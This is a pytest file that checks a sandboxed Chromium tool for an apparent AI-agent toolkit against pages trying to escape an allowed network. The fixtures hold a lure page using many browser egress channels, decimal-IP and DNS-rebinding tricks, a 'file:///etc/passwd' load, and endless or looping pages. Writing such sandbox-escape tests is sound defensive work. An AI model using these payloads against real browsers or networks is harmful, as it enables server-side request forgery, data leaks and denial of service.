"""Chromium against the offline world and against pages that try to get out. Skipped where it is not installed."""

import asyncio
import contextlib
import shutil
import socket

import pytest

from lts_jax.live.tools import browser as browser_module
from lts_jax.live.tools.browser import Browser, BrowserSettings
from lts_jax.live.tools.fetch import Fetched, FetchFailure, FetchSettings
from lts_jax.live.tools.kit import LiveTools, ToolSettings
from lts_jax.tasks.almanac import build_almanac
from lts_jax.tasks.almanac.website import WorldSite

ALMANAC = build_almanac(0)
PAGE = next(page for page in ALMANAC.pages.values() if "See also" in page.text and not page.refusal)
HERE = ("127.0.0.1/32",)
LOCAL = BrowserSettings(use="always", sandbox=False, settle_seconds=1.0)
CHROMIUM = next(filter(None, map(shutil.which, browser_module._NAMES)), None)


@pytest.fixture(scope="module")
def chromium():
    """An event loop with one running browser, for all tests here: a start takes a second or two."""
    pytest.importorskip("playwright", reason="needs playwright")
    if CHROMIUM is None:
        pytest.skip("needs Chromium")
    with asyncio.Runner() as runner:
        shared = Browser(LOCAL, FetchSettings())

        async def start():
            async with shared.place():
                await shared.chromium()

        runner.run(start())
        yield runner, shared
        runner.run(shared.aclose())


class Trap:
    """A server that must not be reached, over TCP and UDP, on another loopback address; and the site that lures."""

    def __init__(self, pages):
        self.pages = pages
        self.hits = []
        self.asked = []

    async def serve_trap(self, reader, writer):
        with contextlib.suppress(Exception):
            self.hits.append(await reader.read(1_000))
            writer.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n\r\nsecret word")
        writer.close()

    async def serve(self, reader, writer):
        with contextlib.suppress(Exception):
            head = (await reader.readuntil(b"\r\n\r\n")).decode()
            length = next((int(x[15:]) for x in head.split("\r\n") if x.lower().startswith("content-length:")), 0)
            body = (await reader.readexactly(length)).decode()
            self.asked.append(head + body)
            answer = self.pages.get(head.split(" ")[1].partition("?")[0], b"HTTP/1.1 404 Not Found\r\n\r\n")
            if callable(answer):
                answer = await answer(writer)
            if answer is not None:
                answer = (
                    answer
                    if answer.startswith(b"HTTP/")
                    else b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + answer
                )
                writer.write(
                    answer.replace(b"TRAP", f"127.0.0.2:{self.trap_port}".encode()).replace(
                        b"DECIMAL", f"2130706434:{self.trap_port}".encode()
                    )
                )
                await writer.drain()
        writer.close()

    def datagram_received(self, data, address):
        self.hits.append(data)


def load(chromium, pages, *paths, allowed=HERE, resolve=None, tabs=1, **limits):
    """Load paths of the luring site, in order; (results, trap). A path may be (tab, path, form)."""
    site = Trap(pages)
    runner, shared = chromium

    async def run():
        lure = await asyncio.start_server(site.serve, "127.0.0.1", 0)
        trap = await asyncio.start_server(site.serve_trap, "127.0.0.2", 0)
        site.trap_port = trap.sockets[0].getsockname()[1]
        port = lure.sockets[0].getsockname()[1]
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.bind(("127.0.0.2", site.trap_port))
        datagrams.setblocking(False)
        settings = FetchSettings(**({"allowed_networks": allowed, "ports": (), "deadline_seconds": 200.0} | limits))
        browser = Browser(LOCAL, settings, resolve=resolve)
        browser.place()
        browser._chromium = await shared.chromium()
        opened = [browser.open_tab() for _ in range(tabs)]
        results = []
        try:
            for each in paths:
                tab, path, form = each if isinstance(each, tuple) else (0, each, None)
                url = path if "://" in path else f"http://127.0.0.1:PORT{path}"
                results.append(
                    await opened[tab].load(
                        url.replace("PORT", str(port)).replace("DECIMAL", f"2130706434:{port}"), form
                    )
                )
        finally:
            lure.close()
            trap.close()
        with contextlib.suppress(BlockingIOError):
            site.hits.append(datagrams.recv(100))
        datagrams.close()
        return results

    return runner.run(run()), site


LURES = {
    "/": b"""<title>Lure</title><meta http-equiv="x-dns-prefetch-control" content="on">
<link rel=preconnect href="http://TRAP/"><link rel=prefetch href="http://TRAP/a"><link rel=stylesheet href="http://TRAP/b">
<link rel=preload as=image href="http://TRAP/c"><img src="http://TRAP/d"><iframe src="http://TRAP/e"></iframe>
<iframe src="http://DECIMAL/f"></iframe><iframe src="file:///etc/passwd"></iframe><object data="http://TRAP/g"></object>
<embed src="http://TRAP/h"><video src="http://TRAP/i" autoplay></video><script src="http://TRAP/j"></script>
<style>@import "http://TRAP/k"; body { background: url(http://TRAP/l) }</style>
<form id=f action="http://TRAP/m" method=post target=there><input name=a value=b></form><iframe name=there></iframe>
<a id=p href="#x" ping="http://TRAP/n">x</a><div id=out>start</div>
<script>
const out = document.getElementById("out"), say = text => { out.textContent += " " + text; };
for (const host of ["TRAP", "DECIMAL", "[::ffff:127.0.0.2]:" + "TRAP".split(":")[1]]) {
  fetch("http://" + host + "/o", {mode: "no-cors"}).then(r => r.text()).then(t => say("fetched " + t))
    .catch(() => say("failed"));
  try { new WebSocket("ws://" + host + "/p"); } catch (e) {}
  try { new EventSource("http://" + host + "/q"); } catch (e) {}
  try { navigator.sendBeacon("http://" + host + "/r", "x"); } catch (e) {}
  try { window.open("http://" + host + "/s"); } catch (e) {}
  try { import("http://" + host + "/t").catch(() => 0); } catch (e) {}
  try { new Worker(URL.createObjectURL(new Blob(["importScripts('http://" + host + "/u')"]))); } catch (e) {}
  try { const x = new XMLHttpRequest(); x.open("GET", "http://" + host + "/v"); x.send(); } catch (e) {}
  try { new WebTransport("https://" + host + "/w"); } catch (e) {}
  try { const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + host}]}); c.createDataChannel("x");
        c.createOffer().then(o => c.setLocalDescription(o)); } catch (e) {}
}
document.getElementById("f").submit(); document.getElementById("p").click();
setTimeout(() => say("ended"), 500);
</script>""",
    "/sent": b"HTTP/1.1 302 Found\r\nLocation: http://TRAP/x\r\n\r\n",
    "/script": b"<script>location = 'http://TRAP/y'</script>",
    "/meta": b"<meta http-equiv=refresh content='0; url=http://TRAP/z'>text",
}


def test_no_way_out_of_the_rule(chromium):
    results, trap = load(chromium, LURES, "/", "/sent", "/script", "/meta", "http://DECIMAL/", "file:///etc/passwd")
    assert trap.hits == []
    lure, sent, script, meta, decimal, file = results
    assert isinstance(lure, Fetched) and b"ended" in lure.body and b"failed" in lure.body
    assert b"secret" not in lure.body and b"root:" not in lure.body
    assert (
        isinstance(sent, FetchFailure) and sent.kind == "refused" and "127.0.0.2 is not a public address" in sent.reason
    )
    for each in (script, meta):
        assert isinstance(each, FetchFailure) or b"secret" not in each.body
    assert decimal.kind == file.kind == "refused"


def test_the_trap_does_catch_where_it_is_allowed(chromium):
    results, trap = load(chromium, LURES, "/", "/sent", allowed=("127.0.0.0/8",))
    paths = {hit.split(b" ")[1] for hit in trap.hits if hit.count(b" ") > 1}
    assert {b"/b", b"/e", b"/j", b"/o", b"/p", b"/v", b"/x"} <= paths
    assert b"secret word" in results[1].body


def test_a_name_that_changes_its_address_gains_nothing(chromium):
    asked, served = [], []

    async def resolve(host, port):  # a browser may ask more than once before it has the page
        asked.append(host)
        return ["127.0.0.2"] if served else ["127.0.0.1"]

    async def first(writer):
        served.append(True)
        return page

    page = (
        b"<p id=o>start</p><script>fetch('http://name.example:' + 'TRAP'.split(':')[1] + '/x').then(r => r.text())"
        b".then(t => { o.textContent = t }).catch(() => { o.textContent = 'kept out' })</script>"
    )
    (result,), trap = load(chromium, {"/": first}, "http://name.example:PORT/", resolve=resolve)
    assert isinstance(result, Fetched) and b"kept out" in result.body and trap.hits == [] and len(asked) >= 2


async def _endless(writer):
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>begin")
    while True:
        writer.write(b"x" * 65_536)
        await writer.drain()


async def _drip(writer):
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>begin")
    while True:
        writer.write(b" ")
        await writer.drain()
        await asyncio.sleep(0.05)


@pytest.mark.slow
def test_pages_that_never_end_do(chromium):
    pages = {
        "/loop": b"<p>x</p><script>for (;;) {}</script>",
        "/later": b"<p>x</p><script>setTimeout(() => { for (;;) {} }, 50)</script>",
        "/drip": _drip,
        "/round": b"<script>location = '/round?' + Math.random()</script>",
        "/alert": b"<p>told</p><script>alert(1); confirm(2); prompt(3); onbeforeunload = () => 'stay'</script>",
    }
    [told], _ = load(chromium, pages, "/alert")
    assert isinstance(told, Fetched) and b"told" in told.body
    results, _ = load(chromium, pages, "/loop", "/later", "/drip", "/round", deadline_seconds=2.5)
    for result in results[:3]:
        assert isinstance(result, FetchFailure) and result.kind == "timeout" and result.seconds < 100


def test_bytes_are_bounded(chromium):
    pages = {"/": _endless, "/more": b"<p>x</p><script>fetch('/').then(r => r.text())</script>"}
    pages["/big"] = b"<p>x</p><script>document.body.textContent = 'y'.repeat(3e6)</script>"
    results, _ = load(chromium, pages, "/", "/more", "/big", max_bytes=2_000_000)
    assert [result.kind for result in results] == ["reply"] * 3
    assert all("more than 2000000 bytes" in result.reason for result in results)


def test_cookies_stay_with_their_team_and_forms_are_posted(chromium):
    cookie = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: team=one\r\n\r\n<p>hello</p>"
    pages = {"/": cookie, "/again": b"<p>again</p>", "/form": b"<p>thanks</p>"}
    results, site = load(
        chromium, pages, (0, "/", None), (0, "/again", None), (1, "/again", None), (0, "/form", {"a": "1 ä"}), tabs=2
    )
    assert all(isinstance(result, Fetched) for result in results)
    asked = [each for each in site.asked if "favicon" not in each]
    assert ["team=one" in each for each in asked] == [False, True, False, True]
    assert asked[3].startswith("POST /form ") and asked[3].endswith("\r\n\r\na=1+%C3%A4")


def test_downloads_go_through_the_plain_client(chromium):
    download = b"HTTP/1.1 200 OK\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename=x.csv\r\n\r\n"
    pages = {
        "/x.csv": download + b"a,b\n1,2\n",
        "/pulls": b"<p>x</p><script>location = '/x.csv'</script>",
        "/form": b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n[1]",
        "/gone": b"HTTP/1.1 410 Gone\r\n\r\n",
    }
    (table, pulls, gone, form), site = load(chromium, pages, "/x.csv", "/pulls", "/gone", (0, "/form", {"a": "1"}))
    assert (form.body, form.content_type) == (b"[1]", "application/json")
    assert sum(each.startswith("POST /form") for each in site.asked) == 1
    assert isinstance(table, Fetched) and (table.body, table.content_type) == (b"a,b\n1,2\n", "text/csv")
    assert isinstance(pulls, Fetched) and b"<p>x</p>" in pulls.body
    assert (gone.kind, gone.status, gone.reason) == ("status", 410, "410 Gone")


@pytest.mark.slow
def test_a_team_reads_the_offline_world_with_scripts(chromium):
    pytest.importorskip("markitdown", reason="needs markitdown, of the extra `web`")

    async def run(use):
        local = FetchSettings(allowed_networks=HERE, ports=())
        tools = LiveTools(ToolSettings(fetch=local, browser=BrowserSettings(use=use, sandbox=False)))
        team = tools.open()
        scripted = site.url_of(PAGE.url).replace(site.base_url, site.base_url + "/scripted")
        calls = [
            {"url": scripted},
            {"url": "L1"},
            {"url": site.base_url + "/lookup", "form": 1, "fields": {"title": PAGE.title}},
        ]
        try:
            return [await team("visit_url", arguments) for arguments in calls[: 3 if use != "never" else 1]]
        finally:
            await tools.aclose()

    with WorldSite(ALMANAC) as site:
        (plain,) = asyncio.run(run("never"))
        scripted, linked, looked = asyncio.run(run("when_needed"))
    assert "This page needs scripts." in plain.text and PAGE.title not in plain.text
    assert scripted.text.startswith(PAGE.title) and "needs scripts" not in scripted.text
    assert not linked.failed and linked.source != scripted.source
    assert looked.source == site.url_of(PAGE.url) and looked.text.startswith(PAGE.title)


def test_what_is_missing_is_said_in_one_line(monkeypatch):
    def reason(settings):
        return asyncio.run(Browser(settings, FetchSettings()).open_tab().load("http://a.example/")).reason

    monkeypatch.setattr(browser_module, "find_spec", lambda name: None)
    assert "playwright is not installed; pip install 'lts-jax[browser]'" in reason(BrowserSettings(use="always"))
    monkeypatch.setattr(browser_module, "find_spec", lambda name: True)
    monkeypatch.setattr(browser_module.os, "geteuid", lambda: 0)
    assert "does not work for root" in reason(BrowserSettings(use="always"))
    with pytest.raises(ValueError, match="never, when_needed, always"):
        BrowserSettings(use="sometimes")
    with pytest.raises(ValueError, match="one tab or more"):
        BrowserSettings(max_tabs=0)
